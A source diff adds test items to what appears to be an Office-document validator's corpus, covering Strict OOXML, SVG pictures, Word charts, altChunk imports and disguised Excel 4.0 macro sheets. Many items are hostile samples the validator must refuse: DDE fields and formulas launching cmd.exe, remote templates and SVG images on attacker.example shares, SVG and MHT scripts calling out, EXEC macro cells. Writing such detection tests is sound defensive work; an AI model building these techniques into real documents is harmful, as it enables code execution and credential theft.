@@ -1355,6 +1355,11 @@ const officeItems: CorpusItem[] = [
   ...objectPictureOfficeItems(),
   ...foldedTargetOfficeItems(),
   ...prefixedOfficeItems(),
+  ...strictOfficeItems(),
+  ...svgContentOfficeItems(),
+  ...wordChartOfficeItems(),
+  ...altChunkOfficeItems(),
+  ...macroPlacedOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -3564,7 +3569,96 @@ export const ACTIVE_GENUINE: readonly {
         'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?>\n<表:worksheet xmlns:表="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><表:sheetData><表:row r="1"><表:c r="A1"><表:f>SUM(B1:B9)&amp;"|"</表:f><表:v>0</表:v></表:c></表:row></表:sheetData></表:worksheet>`,
       }),
   },
+  {
+    id: 'docx-strict',
+    declared: 'docx',
+    // Round 14: a document saved as Strict Open XML, its namespaces and relationship types Strict's.
+    bytes: () => buildZip(docxEntries().map((e) => ({ ...e, data: asStrict(e.data) }))),
+  },
+  {
+    id: 'xlsx-strict-with-sum',
+    declared: 'xlsx',
+    bytes: () =>
+      buildZip(
+        xlsxEntries().map((e) =>
+          e.name === 'xl/worksheets/sheet1.xml'
+            ? {
+                ...e,
+                data: asStrict(
+                  `<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)</f><v>0</v></c></row></sheetData></worksheet>`,
+                ),
+              }
+            : { ...e, data: asStrict(e.data) },
+        ),
+      ),
+  },
+  {
+    id: 'docx-chart-series-formula',
+    declared: 'docx',
+    // Round 14: a Word chart whose series formulas name its own data's cells, as Word writes them.
+    bytes: () => documentWithChart("'营业 收入'!$B$2:$B$5"),
+  },
+  {
+    id: 'xlsx-auto-open-name-without-macro-sheet',
+    declared: 'xlsx',
+    // Round 14: an Auto_Open name left pointing at a worksheet's cell. Excel runs Auto_Open only
+    // as a macro, on a macro sheet or in VBA, each refused whatever its name; a worksheet's cell
+    // runs nothing, and a name whose own formula calls EXEC, CALL or REGISTER is refused as DDE.
+    bytes: () =>
+      office('xlsx', {
+        'xl/workbook.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><sheets><sheet name="汇总表" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">汇总表!$A$1</definedName><definedName name="Auto_Activate">汇总表!$B$1</definedName></definedNames></workbook>`,
+      }),
+  },
+  {
+    id: 'docx-svg-icon',
+    declared: 'docx',
+    // Round 14: an icon from Office's gallery (SVG, its PNG copy beside it): gradients and shapes
+    // referred to inside the picture, a bitmap written in as a data: URL.
+    bytes: () =>
+      documentLinking(
+        `<w:p>${inlinePicture(svgPicture('r:embed="rId7"'))}</w:p>`,
+        [rel('rId7', 'image', 'media/image2.svg'), rel('rId8', 'image', 'media/image1.png')],
+        { add: [{ name: 'word/media/image2.svg', data: SVG_ICON }] },
+      ),
+  },
+  {
+    id: 'xlsx-svg-icon',
+    declared: 'xlsx',
+    bytes: () =>
+      workbookPicture(
+        svgPicture('r:embed="rId2"').replace(/rId8/g, 'rId1'),
+        [rel('rId1', 'image', '../media/image1.png'), rel('rId2', 'image', '../media/image2.svg')],
+        undefined,
+        [{ name: 'xl/media/image2.svg', data: SVG_ICON }],
+      ),
+  },
 ];
+
+/** Transitional namespaces and relationship types as ISO 29500 Strict writes them. */
+function asStrict(data: string | Buffer): string | Buffer {
+  if (typeof data !== 'string') return data;
+  return data
+    .replaceAll(
+      'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
+      'http://purl.oclc.org/ooxml/wordprocessingml/main',
+    )
+    .replaceAll(
+      'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
+      'http://purl.oclc.org/ooxml/spreadsheetml/main',
+    )
+    .replaceAll(
+      'http://schemas.openxmlformats.org/officeDocument/2006/relationships',
+      'http://purl.oclc.org/ooxml/officeDocument/relationships',
+    );
+}
+
+/** An icon as Office's gallery inserts one: shapes, a gradient used by reference, no script, nothing outside. */
+const SVG_ICON =
+  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="96" height="96" overflow="hidden">' +
+  '<defs><linearGradient id="g"><stop offset="0" stop-color="#0078D4"/><stop offset="1" stop-color="#50E6FF"/></linearGradient>' +
+  '<clipPath id="c"><rect x="0" y="0" width="96" height="96"/></clipPath></defs>' +
+  '<g clip-path="url(#c)"><path d="M48 8C26 8 8 26 8 48s18 40 40 40 40-18 40-40S70 8 48 8Z" fill="url(#g)"/>' +
+  '<use xlink:href="#c"/><image width="1" height="1" xlink:href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="/></g></svg>';
 
 /**
  * Link targets computed rather than written: HYPERLINK formulas that build theirs from pieces or
@@ -4514,6 +4608,336 @@ function prefixedOfficeItems(): CorpusItem[] {
           'xl/sharedStrings.xml': `${XML_DECLARATION}<表:sst xmlns:表="${S}" count="1" uniqueCount="1"><表:si><表:t>ms-msdt:/id PCWDiagnostic /skip force</表:t></表:si></表:sst>`,
         }),
       'OOXML_EXTERNAL',
+    ),
+  ];
+}
+
+/**
+ * ISO 29500 Strict (round 14): Word and Excel open a Strict file, whose markup's namespaces
+ * (`http://purl.oclc.org/ooxml/…`) and relationship types differ from the transitional ones.
+ * The element searches take any prefix and no namespace, and relationship types are matched by
+ * their last segment, so each of these was refused already: pinned here.
+ */
+function strictOfficeItems(): CorpusItem[] {
+  const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
+  const W = 'http://purl.oclc.org/ooxml/wordprocessingml/main';
+  const S = 'http://purl.oclc.org/ooxml/spreadsheetml/main';
+  const R = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
+  return [
+    item(
+      'docx-strict-ddeauto-field',
+      'DDE',
+      () =>
+        office('docx', {
+          '_rels/.rels': rels(rel('rId1', `${R}/officeDocument`, 'word/document.xml')),
+          'word/document.xml': `${XML_DECLARATION}<w:document xmlns:w="${W}"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`,
+        }),
+      'OOXML_DDE',
+    ),
+    item(
+      'docx-strict-remote-template-share',
+      'OOXML external',
+      () =>
+        office('docx', {
+          'word/settings.xml': `${XML_DECLARATION}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
+          'word/_rels/settings.xml.rels': rels(
+            rel('rId1', `${R}/attachedTemplate`, '\\\\attacker.example\\s\\t.dotm', true),
+          ),
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-strict-dde-formula',
+      'DDE',
+      () =>
+        office('xlsx', {
+          'xl/worksheets/sheet1.xml': `${XML_DECLARATION}<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1"><f>cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>`,
+        }),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-strict-external-workbook-share',
+      'OOXML external',
+      () =>
+        office(
+          'xlsx',
+          {
+            'xl/_rels/workbook.xml.rels': rels(
+              rel('rId1', `${R}/worksheet`, 'worksheets/sheet1.xml'),
+              rel('rId3', `${R}/externalLink`, 'externalLinks/externalLink1.xml'),
+            ),
+          },
+          [
+            {
+              name: 'xl/externalLinks/externalLink1.xml',
+              data: `${XML_DECLARATION}<externalLink xmlns="${S}" xmlns:r="${R}"><externalBook r:id="rId1"/></externalLink>`,
+            },
+            {
+              name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
+              data: rels(rel('rId1', `${R}/externalLinkPath`, '\\\\attacker.example\\s\\b.xlsx', true)),
+            },
+          ],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-strict-macro-sheet-by-relationship',
+      'macros',
+      () =>
+        office(
+          'xlsx',
+          {
+            'xl/_rels/workbook.xml.rels': rels(
+              rel('rId1', `${R}/worksheet`, 'worksheets/sheet1.xml'),
+              rel('rId2', `${R}/xlMacrosheet`, 'worksheets/sheet2.xml'),
+            ),
+          },
+          [{ name: 'xl/worksheets/sheet2.xml', data: `${XML_DECLARATION}<worksheet xmlns="${S}"/>` }],
+        ),
+      'MACROS',
+    ),
+  ];
+}
+
+/**
+ * SVG pictures that load or run something (round 14, ../../../shared/validation/ooxml/svg.ts):
+ * the SVG part of an `<asvg:svgBlip>` was read by no check, and each of these was VALID. Office
+ * draws an SVG with a renderer of its own, but the picture is saved out and opened in a browser,
+ * and other readers draw it with one.
+ */
+function svgContentOfficeItems(): CorpusItem[] {
+  const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
+  const withSvg = (inside: string) =>
+    documentLinking(
+      `<w:p>${inlinePicture(svgPicture('r:embed="rId7"'))}</w:p>`,
+      [rel('rId7', 'image', 'media/image2.svg'), rel('rId8', 'image', 'media/image1.png')],
+      { add: [{ name: 'word/media/image2.svg', data: `<svg ${NS} viewBox="0 0 96 96">${inside}</svg>` }] },
+    );
+  return [
+    item(
+      'docx-svg-script',
+      'OOXML embedded object',
+      () => withSvg('<script>fetch("http://attacker.example/")</script>'),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
+    item(
+      'docx-svg-foreign-object-iframe',
+      'OOXML embedded object',
+      () =>
+        withSvg(
+          '<foreignObject width="96" height="96"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://attacker.example/"/></foreignObject>',
+        ),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
+    item(
+      'docx-svg-web-image',
+      'OOXML external',
+      () => withSvg('<image href="http://attacker.example/track.png"/>'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-svg-share-image',
+      'OOXML external',
+      () => withSvg('<image xlink:href="\\\\attacker.example\\share\\x.png"/>'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-svg-css-fill-from-web',
+      'OOXML external',
+      () => withSvg(`<rect style="fill:url('http://attacker.example/f.svg#g')"/>`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-svg-share-image',
+      'OOXML external',
+      () =>
+        workbookPicture(
+          svgPicture('r:embed="rId2"').replace(/rId8/g, 'rId1'),
+          [rel('rId1', 'image', '../media/image1.png'), rel('rId2', 'image', '../media/image2.svg')],
+          undefined,
+          [
+            {
+              name: 'xl/media/image2.svg',
+              data: `<svg ${NS}><image xlink:href="\\\\attacker.example\\s\\x.png"/></svg>`,
+            },
+          ],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-svg-typed-png-name',
+      'OOXML unreadable',
+      () =>
+        office(
+          'docx',
+          {
+            '[Content_Types].xml': contentTypes(
+              'docx',
+              '<Override PartName="/word/media/image2.png" ContentType="image/svg+xml"/>',
+            ),
+          },
+          [{ name: 'word/media/image2.png', data: `<svg ${NS}><image href="http://attacker.example/t.png"/></svg>` }],
+        ),
+      'OOXML_UNREADABLE',
+    ),
+  ];
+}
+
+/** A Word document with one chart (word/charts/chart1.xml) whose series' values come from `formula`. */
+function documentWithChart(formula: string): Promise<Buffer> {
+  const chart = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart><c:plotArea><c:barChart><c:barDir val="col"/><c:ser><c:idx val="0"/><c:order val="0"/><c:tx><c:strRef><c:f>Sheet1!$B$1</c:f><c:strCache><c:ptCount val="1"/><c:pt idx="0"><c:v>营业收入</c:v></c:pt></c:strCache></c:strRef></c:tx><c:val><c:numRef><c:f>${formula}</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val="1"/><c:pt idx="0"><c:v>86.5</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>`;
+  return office(
+    'docx',
+    {
+      ...mainRels('docx', rel('rId7', 'chart', 'charts/chart1.xml')),
+      '[Content_Types].xml': contentTypes(
+        'docx',
+        '<Override PartName="/word/charts/chart1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>',
+      ),
+    },
+    [{ name: 'word/charts/chart1.xml', data: chart }],
+  );
+}
+
+/**
+ * A Word chart's series formula (`c:f`) naming another book in a share, or DDE (round 14): Word's
+ * charts were read for fields and pictures only, so both were VALID. Word draws a chart from its
+ * cached values; editing or refreshing its data follows the formula, and a share leaks the
+ * reader's credentials, so it is refused as an Excel chart's is.
+ */
+function wordChartOfficeItems(): CorpusItem[] {
+  return [
+    item(
+      'docx-chart-series-formula-share',
+      'OOXML external',
+      () => documentWithChart("'\\\\attacker.example\\s\\[b.xlsx]Sheet1'!$B$2:$B$5"),
+      'OOXML_EXTERNAL',
+    ),
+    item('docx-chart-series-formula-dde', 'DDE', () => documentWithChart("cmd|' /c calc'!A0"), 'OOXML_DDE'),
+  ];
+}
+
+/**
+ * A document imported by altChunk whose relationship is typed as something else (round 14): the
+ * aFChunk type was refused, the `<w:altChunk>` element was not, so an RTF chunk carrying an OLE
+ * object (the Equation Editor's shape) typed as a picture, and an MHT chunk with a script, an
+ * iframe and a share's picture typed as a hyperlink, were VALID.
+ */
+function altChunkOfficeItems(): CorpusItem[] {
+  const importing = (type: string, target: string, chunk: string) =>
+    office(
+      'docx',
+      {
+        ...mainRels('docx', rel('rId9', type, target)),
+        'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:body><w:altChunk r:id="rId9"/><w:p/></w:body></w:document>`,
+      },
+      [{ name: `word/${target}`, data: chunk }],
+    );
+  return [
+    item(
+      'docx-alt-chunk-rtf-equation-typed-as-picture',
+      'OOXML embedded object',
+      () =>
+        importing(
+          'image',
+          'media/image5.png',
+          '{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata d0cf11e0a1b11ae1}}}',
+        ),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
+    item(
+      'docx-alt-chunk-mht-script-typed-as-hyperlink',
+      'OOXML embedded object',
+      () =>
+        importing(
+          'hyperlink',
+          'chunk.mht',
+          'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>location="http://attacker.example/"</script><iframe src="http://attacker.example/"></iframe><img src="\\\\attacker.example\\share\\x.png">',
+        ),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
+  ];
+}
+
+/**
+ * Excel 4.0 macro sheets and macro-enabled main parts where a reader finds them (round 14): by
+ * content type or relationship type under a worksheet's name, and a content type override naming
+ * its part in other case (part names are case-insensitive in OPC). Each was refused already, by
+ * type whatever the name (../../../shared/validation/ooxml/content-types.ts, relationships.ts):
+ * pinned here.
+ */
+function macroPlacedOfficeItems(): CorpusItem[] {
+  const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
+  const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+  const macroSheet = `${XML_DECLARATION}<xm:macrosheet xmlns="${S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`;
+  return [
+    item(
+      'xlsx-macro-sheet-typed-under-worksheet-name',
+      'macros',
+      () =>
+        office(
+          'xlsx',
+          {
+            '[Content_Types].xml': contentTypes(
+              'xlsx',
+              '<Override PartName="/xl/worksheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
+            ),
+            'xl/_rels/workbook.xml.rels': rels(
+              rel('rId1', 'worksheet', 'worksheets/sheet1.xml'),
+              rel('rId2', 'worksheet', 'worksheets/sheet2.xml'),
+            ),
+          },
+          [{ name: 'xl/worksheets/sheet2.xml', data: macroSheet }],
+        ),
+      'MACROS',
+    ),
+    item(
+      'xlsx-intl-macro-sheet-by-relationship-under-worksheet-name',
+      'macros',
+      () =>
+        office(
+          'xlsx',
+          {
+            'xl/_rels/workbook.xml.rels': rels(
+              rel('rId1', 'worksheet', 'worksheets/sheet1.xml'),
+              rel(
+                'rId2',
+                'http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet',
+                'worksheets/sheet2.xml',
+              ),
+            ),
+          },
+          [{ name: 'xl/worksheets/sheet2.xml', data: macroSheet }],
+        ),
+      'MACROS',
+    ),
+    item(
+      'docx-macro-enabled-main-override-other-case',
+      'macros',
+      () =>
+        office('docx', {
+          '[Content_Types].xml': contentTypes('docx').replace(
+            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
+            '<Override PartName="/WORD/DOCUMENT.XML" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+          ),
+        }),
+      'MACROS',
+    ),
+    item(
+      'docx-vba-project-override-other-case-other-name',
+      'macros',
+      () =>
+        office(
+          'docx',
+          {
+            '[Content_Types].xml': contentTypes(
+              'docx',
+              '<Override PartName="/WORD/MEDIA/IMAGE9.BIN" ContentType="application/vnd.ms-office.vbaProject"/>',
+            ),
+          },
+          [{ name: 'word/media/image9.bin', data: randomBytes(2048) }],
+        ),
+      'MACROS',
     ),
   ];
 }
